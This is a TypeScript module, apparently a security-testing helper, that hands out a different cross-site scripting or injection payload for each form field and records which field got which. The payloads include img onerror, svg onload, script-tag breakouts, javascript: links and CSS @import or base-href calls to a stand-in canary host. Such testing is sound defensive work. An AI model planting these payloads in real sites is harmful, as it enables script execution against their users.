/** Somebody's own host: nothing of the site or the console ever asks it for anything. */
export const CANARY = 'canary.invalid';

/** Ways in which a text becomes more than text on a page that trusts it. `ran` is heard by whoever watches. */
const WAYS: readonly ((mark: string) => string)[] = [
  (mark) => `${mark}<img src=x onerror=ran()>`,
  (mark) => `${mark}"><svg/onload=ran()>`,
  (mark) => `${mark}</script><script>ran()</script>`,
  (mark) => `${mark}<a href="javascript:ran()">x</a>`,
  (mark) => `${mark}<img src=//${CANARY}/x>`,
  (mark) => `${mark}' onmouseover=ran() x='`,
  (mark) => `${mark}<style>@import'//${CANARY}'`,
  (mark) => `${mark}{{nothing}}$t(shell.home)<b>`,
  (mark) => `${mark}<base href=//${CANARY}>`,
  (mark) => `${mark}<iframe src=javascript:ran()>`,
];

export interface Payloads {
  /** A text of forty signs at most, to be written into a field. */
  readonly next: (field: string) => string;
  /** Every text that was given out, by the field. */
  readonly written: ReadonlyMap<string, string>;
}

/** Texts that do harm where a page takes them for more than text, another one for each field. */
export const openPayloads = (): Payloads => {
  const written = new Map<string, string>();
  return {
    written,
    next: (field) => {
      const way = WAYS[written.size % WAYS.length];
      const text = way?.(`P${written.size + 10}`) ?? '';
      written.set(field, text);
      return text;
    },
  };
};
